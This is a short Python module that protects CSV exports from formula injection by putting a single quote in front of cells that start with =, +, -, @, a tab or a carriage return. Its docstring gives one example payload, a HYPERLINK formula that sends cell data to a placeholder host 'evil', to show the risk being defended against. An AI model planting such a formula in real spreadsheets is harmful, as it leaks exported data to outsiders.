"""CSV cells a spreadsheet will not run (CSV/formula injection, OWASP).

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some versions, a tab or carriage return before one) as a formula: a subject named
``=HYPERLINK("http://evil/?"&A1, "click")`` would send a supervisor's export to a stranger. Every
CSV the API serves passes its cells through ``neutralize``, which prefixes such text with a single
quote, as OWASP recommends; the spreadsheet shows the text, quote hidden, and runs nothing.

Numbers stay numbers: a value that is an ``int``, ``float`` or ``Decimal`` in the data (a
latitude of -33.9, a count) is written as is, because it cannot carry a formula and agencies read
the figures back as numbers. Everything else - names, notes, case references, user names, JSON
details, lists - is text, and any text starting with a trigger is neutralized, whoever wrote it
(a string ``"-12"`` becomes ``'-12``: text that merely looks like a number is still text).
"""

from __future__ import annotations

from decimal import Decimal
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_number(value: Any) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def neutralize(value: Any, text: str) -> str:
    """``text`` (how ``value`` is written in the CSV), safe to open in a spreadsheet."""
    if is_number(value) or not text.startswith(FORMULA_TRIGGERS):
        return text
    return "'" + text
